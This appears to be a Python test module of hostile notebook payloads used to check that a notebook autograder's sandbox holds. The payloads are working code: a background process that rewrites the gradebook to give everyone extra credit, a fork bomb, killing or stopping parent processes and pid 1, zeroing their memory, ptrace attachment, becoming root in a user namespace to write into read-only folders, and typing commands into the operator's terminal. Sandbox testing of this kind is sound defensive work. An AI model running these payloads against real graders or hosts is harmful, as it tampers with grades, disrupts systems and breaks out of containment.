"""Processes that outlive their notebook, signals, and hands laid on other processes.

Every process that stays does so for some minutes at most, and has MARK in its command line where it can.
"""

from tests.adversarial.hostile import GUARD, MARK, PIDS, Hostile, at_start, everywhere

WRONG = everywhere("return None")
GENEROUS = "UPDATE grade SET extra_credit = 3, needs_manual_grade = 0"

CHANGED_LATER = f"""
import subprocess, sys

code = '''
import glob, sqlite3, time

for _ in range(400):
    time.sleep(0.3)
    for path in [found for n in range(8) for found in glob.glob("../" * n + "gradebook.db")]:
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("{GENEROUS}")
        except sqlite3.Error:
            pass
'''
nothing = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", code, "{MARK}"], start_new_session=True, **nothing)
"""

LINGERING = f"""
import os, signal, sys

code = "import time; time.sleep(300)"
if os.fork() == 0:
    os.setsid()  # away from the process group, and with a second fork from the session
    if os.fork() == 0:
        for number in set(signal.Signals) - {{signal.SIGKILL, signal.SIGSTOP}}:
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 4096)
        os.execv(sys.executable, [sys.executable, "-c", code, "{MARK}"])
    os._exit(0)
"""

# The fuse: where processes are counted from 1, as in a sandbox, there will never be more than some thousands.
FORK_BOMB = """
import os, time

end = time.monotonic() + 60
while True:
    if os.getpid() > 5_000 or time.monotonic() > end:
        os._exit(0)
    try:
        os.fork()
    except OSError:
        pass
"""

ANCESTORS = (
    GUARD
    + """
import os, signal


def ancestors():
    pids = [os.getpid()]
    try:
        while pids[-1] > 1:
            pids.append(int(open(f"/proc/{pids[-1]}/stat").read().rpartition(")")[2].split()[1]))
    except OSError as error:
        print(error)
    return {*pids[1:], os.getppid(), 1} - {0}


def send(pid, number):
    try:
        os.kill(pid, number)
        print("sent", number, "to", pid)
    except OSError as error:
        print(pid, error)


"""
)
KILL_EVERYBODY = GUARD + "import signal\nos.kill(-1, signal.SIGKILL)\n"
KILL_ANCESTORS = ANCESTORS + "for pid in ancestors():\n    send(pid, signal.SIGKILL)\n"
STOP_ANCESTORS = ANCESTORS + "for pid in ancestors():\n    send(pid, signal.SIGSTOP)\n"
ALL_SIGNALS = (
    ANCESTORS + "for number in sorted(signal.valid_signals()):\n    for pid in ancestors():\n        send(pid, number)\n"
)

# Limits and priorities of another process of the same user can be changed without any further right.
LOWER_LIMITS = (
    ANCESTORS
    + """
import resource

for pid in ancestors():
    try:
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
    except OSError as error:
        print(pid, error)
    for name, limit in (("CPU", 1), ("NPROC", 1), ("NOFILE", 3), ("FSIZE", 0), ("AS", 2**20)):
        try:
            resource.prlimit(pid, getattr(resource, f"RLIMIT_{name}"), (limit, limit))
            print("lowered", name, "of", pid)
        except OSError as error:
            print(pid, name, error)
"""
)

# Nobody but pid 1 can bury those whose parents are dead.
ORPHANS = """
import os

for _ in range(2_000):
    if os.fork() == 0:
        os.fork()
        os._exit(0)
    os.wait()
"""

# From here on the notebook runs in a child, which belongs to no group that the grader knows of.
OTHER_SESSION = """
import os, time

child = os.fork()
if child:
    os.waitpid(child, 0)
    os._exit(0)
os.setsid()
end = time.monotonic() + 300
"""

TRACE_EVERYBODY = (
    GUARD
    + PIDS
    + """
import ctypes

PTRACE_ATTACH, libc = 16, ctypes.CDLL(None, use_errno=True)
for pid in pids():
    if pid not in (0, os.getpid()):  # whoever is attached to stands still
        done = libc.ptrace(PTRACE_ATTACH, pid, None, None)
        print(pid, "attached" if done == 0 else os.strerror(ctypes.get_errno()))
"""
)

# A fork finds everything of its parent's at the addresses of its own, and needs no map of it.
OVERWRITE_MEMORY = (
    ANCESTORS
    + """
import ctypes, sys


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc, zeros = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
for pid in ancestors():
    for thing in (sys.modules, sys.modules["os"].__dict__, os.fork, os.kill):
        here, there = Piece(ctypes.addressof(zeros), 4096), Piece(id(thing), 4096)
        libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        print(pid, os.strerror(ctypes.get_errno()))
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            for line in maps:
                if "[heap]" in line or "[stack]" in line:
                    start, end = (int(number, 16) for number in line.split()[0].split("-"))
                    memory.seek(start)
                    print(pid, memory.write(bytes(end - start)), "bytes overwritten")
    except OSError as error:
        print(pid, error)
"""
)

# A user namespace makes anybody root in it, who may mount what they like; read-only must stay read-only.
BECOME_ROOT = (
    GUARD
    + f"""
import ctypes, sys
import cs231n_kit

CLONE_NEWUSER, CLONE_NEWNS, MS_REMOUNT, MS_BIND = 0x10000000, 0x20000, 32, 4096
libc, user = ctypes.CDLL(None, use_errno=True), os.getuid()
read_end, write_end = os.pipe()
if os.fork() == 0:  # only a process with a single thread may have a user namespace of its own
    said = []
    done = libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
    said.append(("unshare", done, os.strerror(ctypes.get_errno())))
    try:
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {{user}} 1")
    except OSError as error:
        said.append(error)
    try:
        places = [line.split()[1] for line in open("/proc/self/mounts")]
    except OSError:
        places = ["/", "/etc", "/usr", sys.prefix, os.path.dirname(os.path.dirname(cs231n_kit.__file__))]
    for place in places:
        done = libc.mount(b"none", place.encode(), None, MS_REMOUNT | MS_BIND, None)
        said.append((place, done, os.strerror(ctypes.get_errno())))
    for folder in (os.path.dirname(cs231n_kit.__file__), sys.prefix, "/etc"):
        try:
            open(folder + "/{MARK}", "w").write("was here")
            said.append("wrote into " + folder)
        except OSError as error:
            said.append(error)
    os.write(write_end, repr(said).encode()[:60_000])
    os._exit(0)
os.close(write_end)
print(os.read(read_end, 60_000).decode())
"""
)

# Whatever is typed into the terminal of whoever started the grader is executed when the grader ends.
TYPE = f"""
import fcntl, glob, termios

for path in ["/dev/tty", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/[012]")]:
    try:
        with open(path, "w") as terminal:
            for letter in b"echo {MARK}\\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
            print("typed into", path)
    except OSError as error:
        print(path, error)
"""

HOSTILE = (
    Hostile(
        "gradebook-changed-later",
        "escaping",
        "A process in the background waits for the gradebook to be written, and gives extra credit to everybody.",
        WRONG,
        extra=at_start(CHANGED_LATER),
    ),
    Hostile(
        "daemon-left-behind",
        "escaping",
        "A process without parent, session, descriptors and ears for signals stays behind.",
        extra=at_start(LINGERING),
    ),
    Hostile("fork-bomb", "escaping", "Processes multiply until nothing else can start.", extra=at_start(FORK_BOMB)),
    Hostile(
        "everybody-killed",
        "escaping",
        "Every process that may be killed is killed.",
        extra=at_start(KILL_EVERYBODY),
    ),
    Hostile(
        "ancestors-killed",
        "escaping",
        "The parent, its parents and pid 1 are killed.",
        cells={"knn-two-loops": KILL_ANCESTORS},
    ),
    Hostile(
        "ancestors-stopped",
        "escaping",
        "The parent, its parents and pid 1 are told to stop, and stand still for ever.",
        cells={"knn-two-loops": STOP_ANCESTORS},
    ),
    Hostile(
        "every-signal-sent",
        "escaping",
        "The parent, its parents and pid 1 are sent every signal there is.",
        cells={"knn-two-loops": ALL_SIGNALS},
    ),
    Hostile(
        "limits-lowered",
        "escaping",
        "The parent and its parents get the lowest priority, hardly any memory, and a second of CPU time.",
        cells={"knn-two-loops": LOWER_LIMITS},
    ),
    Hostile("orphans-left", "escaping", "Two thousand dead processes are left for pid 1 to bury.", extra=at_start(ORPHANS)),
    Hostile(
        "session-of-its-own",
        "escaping",
        "The notebook moves to a process in another session, which loops where no signal to the group reaches it.",
        everywhere("while time.monotonic() < end:\n    pass"),
        extra=at_start(OTHER_SESSION),
    ),
    Hostile(
        "everybody-traced",
        "escaping",
        "A debugger is attached to every other process, which stops it.",
        cells={"knn-two-loops": TRACE_EVERYBODY},
    ),
    Hostile(
        "memory-overwritten",
        "escaping",
        "The memory of the parent and its parents is filled with zeros.",
        cells={"knn-two-loops": OVERWRITE_MEMORY},
    ),
    Hostile(
        "root-of-its-own",
        "escaping",
        "In a user namespace of its own the code is root, makes everything writable, and writes into the kit.",
        cells={"knn-two-loops": BECOME_ROOT},
    ),
    Hostile(
        "terminal-typed-into",
        "escaping",
        "Commands are typed into the terminal of whoever started the grader.",
        cells={"knn-two-loops": TYPE},
    ),
)
